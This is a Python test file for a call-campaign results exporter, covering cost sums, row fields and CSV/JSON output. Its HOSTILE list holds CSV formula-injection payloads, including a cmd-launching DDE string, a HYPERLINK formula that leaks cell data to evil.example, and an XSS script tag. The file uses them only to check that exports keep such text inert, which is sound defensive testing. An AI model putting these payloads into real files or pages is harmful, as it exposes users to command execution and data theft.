"""The results of a campaign: rows, sums, and text that stays text (S6)."""

from __future__ import annotations

import csv
import io
import json
import random
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from pokea.billing.call_leg import Direction
from pokea.billing.cdr import Cdr
from pokea.campaigns.contact import Contact, ContactState, Disposition
from pokea.campaigns.results import FIXED, ResultRow, csv_of, json_of, row_of, summary_of
from pokea.ids import SessionId
from pokea.leads import Answer, Lead, Outcome
from pokea.sautikit.closings import RecordingPointer
from tests.support.billing_samples import leg
from tests.support.settled import MONDAY, SESSION, lead, reason, ringing, waiting

SOUND = RecordingPointer("recordings/kilele/2026-11-23/HD_000000000001.wav", 960_000, 60_000)
HOSTILE = (
    "=cmd|'/C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"x")', "a\n=1+1", 'a","=1+1', "a\u2028=1", "\u202e=1+1", "x\x00=1", "'=1+1",
    "</script><script>alert(1)</script>", "<Say>hello</Say>", "a;=1+1", "\ud800=1", "=1+1,=2+2", "-2-3", "--",
)  # fmt: skip


def charged(session: str, micros: int | None, model: int | None = 0, **changes: Any) -> tuple[Cdr, Cdr]:
    """The callee's leg and the stream of one placed call."""
    own = {"session_id": SessionId(session), "call_id": SessionId(session), "charge_micros": micros, **changes}
    callee = leg(leg="callee", direction=Direction.OUTBOUND, **own)
    stream = leg(
        **{**own, "charge_micros": 0, "leg": "stream", "direction": Direction.STREAM, "model_charge_micros": model}
    )
    return callee, stream


def done(disposition: Disposition = Disposition.HOT, **changes: Any) -> Contact:
    return ringing(state=ContactState.DONE, disposition=disposition, **changes)


def row(contact: Contact, lead: Lead | None = None, cdrs: tuple[Cdr, ...] = ()) -> ResultRow:
    return row_of(contact, lead, SOUND if lead is not None else None, cdrs, "KES")


def cells(rows: list[ResultRow]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(csv_of(rows), newline="")))


def test_a_row_has_the_answers_the_reasons_the_cost_and_the_recording() -> None:
    made = row(done(), lead(Outcome.HOT), charged("HD_1", 1_500_000, 300_000))
    (found,) = cells([made])
    assert found["number"] == "+254722000111" and found["name"] == "Wanjiku Kamau"
    assert (found["disposition"], found["score"], found["reasons"]) == ("hot", "70", "has the money (+40)")
    assert (found["answer_budget"], found["quote_budget"]) == ("50000", "about fifty thousand")
    assert (found["talk_s"], found["cost_micros"], found["currency"]) == ("90", "1800000", "KES")
    assert found["recording"] == SOUND.key and found["call"] == SESSION
    assert found["rung_at"] == "2026-11-23T07:00:00Z"


def test_the_columns_of_the_list_itself_come_back_so_that_its_owner_finds_their_own_key() -> None:
    rows = [row(waiting(fields={"crm_id": "0042", "note": "=1+1"})), row(waiting(fields={}))]
    first, second = cells(rows)
    assert (first["field_crm_id"], first["field_note"]) == ("0042", "'=1+1")
    assert (second["field_crm_id"], second["field_note"]) == ("", "")
    (paged,) = csv.reader(io.StringIO(csv_of(rows[:1], ("budget",), ("crm_id",), is_first=False)))
    assert paged[len(FIXED) :] == ["", "", "0042"]


def test_what_is_unknown_is_empty_and_who_was_never_rung_has_cost_nothing() -> None:
    (uncharged,) = cells([row(done(), lead(Outcome.HOT), charged("HD_1", None))])
    assert uncharged["cost_micros"] == "" and uncharged["talk_s"] == "90"
    (missing,) = cells([row(done(attempts=2), lead(Outcome.HOT), charged("HD_1", 5))])
    assert (missing["cost_micros"], missing["talk_s"]) == ("", "")  # of one attempt nobody knows what it cost
    (unpriced,) = cells([row(done(), lead(Outcome.HOT), charged("HD_1", 5, None))])
    assert unpriced["cost_micros"] == ""
    (never,) = cells([row(waiting())])
    assert (never["cost_micros"], never["talk_s"], never["score"], never["disposition"]) == ("0", "0", "", "")


def test_the_cost_of_a_lead_is_that_of_all_attempts_also_those_in_vain() -> None:
    hot = row(done(attempts=2), lead(Outcome.HOT), (*charged("HD_1", 1_000_000), *charged("HD_2", 2_000_000)))
    busy = row(done(Disposition.BUSY), None, charged("HD_3", 500_000, answered_at=None, talk_s=None))
    summary = summary_of([hot, busy, row(waiting())], "KES")
    assert (hot.micros, busy.talk_s) == (3_000_000, 0)
    assert (summary.micros, summary.qualified, summary.micros_per_qualified) == (3_500_000, 1, 3_500_000)
    assert (summary.contacts, summary.attempts, summary.unknown_cost) == (3, 3, 0)


def test_a_cost_that_is_not_known_in_full_is_no_cost_per_lead() -> None:
    summary = summary_of([row(done(), lead(Outcome.HOT), charged("HD_1", None))], "KES")
    assert (summary.unknown_cost, summary.micros_per_qualified) == (1, None)
    assert summary_of([], "KES").micros_per_qualified is None


def test_the_sums_are_those_of_the_rows() -> None:
    rng = random.Random(3)
    rows = [
        row(
            done(rng.choice(list(Disposition))),
            None,
            charged(f"HD_{n}", rng.choice([None, rng.randrange(10**7)]), answered_at=MONDAY + timedelta(seconds=n)),
        )
        for n in range(300)
    ]
    summary = summary_of(rows, "KES")
    assert sum(summary.states.values()) == sum(summary.dispositions.values()) == summary.contacts == 300
    assert summary.micros == sum(made.micros or 0 for made in rows)
    assert summary.unknown_cost == sum(made.micros is None for made in rows)
    assert summary.qualified == sum(made.disposition in (Disposition.HOT, Disposition.WARM) for made in rows)


def said_by(text: str) -> ResultRow:
    """A row in which everything that somebody wrote or said is `text`."""
    told = lead(
        Outcome.HOT,
        answers={"budget": Answer(value=text, quote=text, at=MONDAY), text: Answer(value="x", quote="y", at=MONDAY)},
        reasons=(reason("budget", 40, text, text),),
        call_again=text,
        language=text,
    )
    contact = done(name=text, reason=text, fields={"note": text, text: "x"})
    return replace(row(contact, told, charged("HD_1", 5)), recording=text, call=text)


def check_inert(made: ResultRow) -> None:
    written = csv_of([made, made])
    table = list(csv.reader(io.StringIO(written, newline="")))
    assert [len(line) for line in table] == [len(FIXED) + 4 + len(made.fields)] * 3
    assert written.count("\n") == 3 and "\r" not in written
    for line in table:
        for cell in line:
            assert not cell.startswith(("=", "@", "\t", "\r")), cell
            assert not cell.startswith(("+", "-")) or cell[1:].isdigit(), cell
    written.encode()
    document = json.loads(json_of([made], summary_of([made], "KES")).encode())
    assert document["contacts"][0]["number"] == "+254722000111"
    assert len(document["contacts"]) == 1


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_text_becomes_a_formula_a_row_or_a_field_of_its_own(text: str) -> None:
    check_inert(said_by(text))


def hostile_text(rng: random.Random) -> str:
    pieces = [*HOSTILE, "=", "+", "-", "@", "\t", "\n", "\r", '"', ",", "'", " ", "a", "1", "\x85", "\u2029", "＝"]
    return "".join(rng.choice(pieces) for _ in range(rng.randint(1, 6)))


def check_many(count: int, seed: int) -> None:
    rng = random.Random(seed)
    for _ in range(count):
        check_inert(said_by(hostile_text(rng)))


def test_three_hundred_drawn_texts_are_inert() -> None:
    check_many(300, 1)


@pytest.mark.faults
def test_ten_thousand_drawn_texts_are_inert() -> None:
    check_many(10_000, 2)
